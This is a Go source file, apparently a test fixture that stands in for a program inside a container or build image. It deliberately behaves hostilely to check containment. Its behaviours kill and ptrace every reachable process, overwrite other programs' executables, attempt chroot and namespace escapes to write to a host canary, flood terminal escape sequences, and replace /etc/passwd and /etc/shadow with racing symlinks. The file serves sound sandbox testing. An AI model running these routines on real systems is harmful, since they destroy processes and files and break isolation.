// Command impostor stands in the place of a program of an image, whatever it is called there. The file
// /.impostor says how it behaves, and where the host has a canary.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"os/signal"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// behaviours by name; each returns what the program exits with.
var behaviours = map[string]func(canary string) int{
	"stays":     stays,
	"escapes":   escapes,
	"kills":     kills,
	"rewrites":  rewrites,
	"babbles":   babbles,
	"fails":     func(string) int { return 1 },
	"dies":      func(string) int { _ = unix.Kill(os.Getpid(), unix.SIGKILL); select {} },
	"never":     func(string) int { signal.Ignore(unix.SIGTERM, unix.SIGINT, unix.SIGHUP); return sleep() },
	"publishes": publishes,
	"races":     races,
}

// What a child of the impostor is told in its environment.
const (
	staying = "IMPOSTOR_STAYS"
	racing  = "IMPOSTOR_RACES" // against the canary of that name
)

func main() {
	if os.Getenv(staying) != "" {
		signal.Ignore(unix.SIGTERM, unix.SIGINT, unix.SIGHUP)
		os.Exit(sleep())
	}
	if canary := os.Getenv(racing); canary != "" {
		swap(canary)
	}
	text, _ := os.ReadFile("/.impostor")
	name, canary, _ := strings.Cut(strings.TrimSpace(string(text)), "\n")
	behave := behaviours[name]
	if behave == nil {
		fmt.Fprintf(os.Stderr, "impostor: no behaviour %q\n", name)
		os.Exit(2)
	}
	_ = os.WriteFile("/.impostor-ran", nil, 0o644)
	os.Exit(behave(canary))
}

func sleep() int {
	const longerThanAnyRun = 20 * time.Minute
	time.Sleep(longerThanAnyRun)
	return 0
}

// stays leaves processes: one that holds what it inherited, and one in a session of its own.
func stays(string) int {
	for _, session := range []bool{false, true} {
		cmd := exec.Command("/proc/self/exe")
		cmd.Env = []string{staying + "=1"}
		if cmd.SysProcAttr = (&syscall.SysProcAttr{Setsid: session}); !session {
			cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		}
		if err := cmd.Start(); err != nil {
			fmt.Fprintln(os.Stderr, err)
		}
	}
	return 0
}

// kills ends everything that it can reach.
func kills(string) int {
	for _, pid := range append([]int{os.Getppid(), 1, 0, -1}, others()...) {
		if pid != os.Getpid() && pid != 0 {
			_ = unix.Kill(pid, unix.SIGKILL)
			_ = unix.PtraceSeize(pid)
		}
	}
	return 0
}

func others() (pids []int) {
	list, _ := filepath.Glob("/proc/[0-9]*")
	for _, p := range list {
		if pid, err := strconv.Atoi(filepath.Base(p)); err == nil {
			pids = append(pids, pid)
		}
	}
	return pids
}

// rewrites changes the file of every program that it can reach, and its mode, owner and attributes.
func rewrites(string) int {
	for _, pid := range append(others(), os.Getppid()) {
		if pid == os.Getpid() {
			continue
		}
		exe := fmt.Sprintf("/proc/%d/exe", pid)
		_ = os.Chmod(exe, 0o6777)
		_ = os.Chown(exe, 1000, 1000)
		_ = unix.Setxattr(exe, "trusted.evil", []byte("x"), 0)
		_ = os.Truncate(exe, 0)
		if f, err := os.OpenFile(exe, os.O_WRONLY, 0); err == nil {
			_, _ = f.WriteString("#!/bin/evil\n")
		}
	}
	return 0
}

// escapes tries the ways out of a root folder, and writes to the canary.
func escapes(canary string) int {
	touch := func(root string) {
		_ = os.WriteFile(root+canary+"/evil", []byte("evil"), 0o644)
		if f, err := os.OpenFile(root+canary+"/file", os.O_WRONLY|os.O_APPEND, 0); err == nil {
			_, _ = f.WriteString("evil")
		}
	}
	for _, pid := range others() {
		touch(fmt.Sprintf("/proc/%d/root", pid))
		touch(fmt.Sprintf("/proc/%d/cwd", pid))
		for fd := range 64 {
			touch(fmt.Sprintf("/proc/%d/fd/%d", pid, fd))
		}
	}
	for fd := range 64 {
		if unix.Fchdir(fd) == nil {
			touch(strings.Repeat("../", 24))
		}
	}
	for _, err := range []error{
		unix.Unshare(unix.CLONE_NEWUSER), unix.Unshare(unix.CLONE_NEWNS), unix.Mount("none", "/mnt", "tmpfs", 0, ""),
		unix.Mknod("/.disk", unix.S_IFBLK|0o600, 7<<8), errors.Join(os.MkdirAll("/.jail", 0o755), unix.Chroot("/.jail")),
	} {
		fmt.Fprintln(os.Stderr, err)
	}
	for range 64 {
		_ = unix.Chdir("..")
	}
	_ = unix.Chroot(".")
	touch("")
	return 0
}

// babbles prints a line without end, and what a terminal would obey.
func babbles(string) int {
	block := bytes.Repeat([]byte("\x1b]0;evil\x07\x1b[2J\x00\xff"), 1<<12)
	for range 256 {
		_, _ = os.Stdout.Write(block)
		_, _ = os.Stderr.Write(block)
	}
	return 0
}

// wanted are files that later steps read or write.
var wanted = []string{"/etc/fstab", "/etc/os-release", "/etc/passwd", "/etc/hostname", "/etc/resolv.conf", "/etc/shadow", "/boot/grub2/grub.cfg"}

// publishes replaces files that a later step reads.
func publishes(canary string) int {
	for _, name := range wanted {
		_ = os.Remove(name)
		_ = os.Symlink(canary+"/file", name)
	}
	return 0
}

// races leaves a process that changes files underfoot.
func races(canary string) int {
	cmd := exec.Command("/proc/self/exe")
	cmd.Env, cmd.SysProcAttr = []string{racing + "=" + canary}, &syscall.SysProcAttr{Setsid: true}
	if err := cmd.Start(); err != nil {
		fmt.Fprintln(os.Stderr, err)
	}
	const head = 200 * time.Millisecond
	time.Sleep(head)
	return 0
}

// swap makes files links and files again, for ever.
func swap(canary string) {
	signal.Ignore(unix.SIGTERM, unix.SIGINT, unix.SIGHUP)
	for {
		for _, name := range wanted {
			_ = os.Symlink(canary+"/file", name+".link")
			_ = unix.Renameat2(unix.AT_FDCWD, name+".link", unix.AT_FDCWD, name, unix.RENAME_EXCHANGE)
		}
	}
}
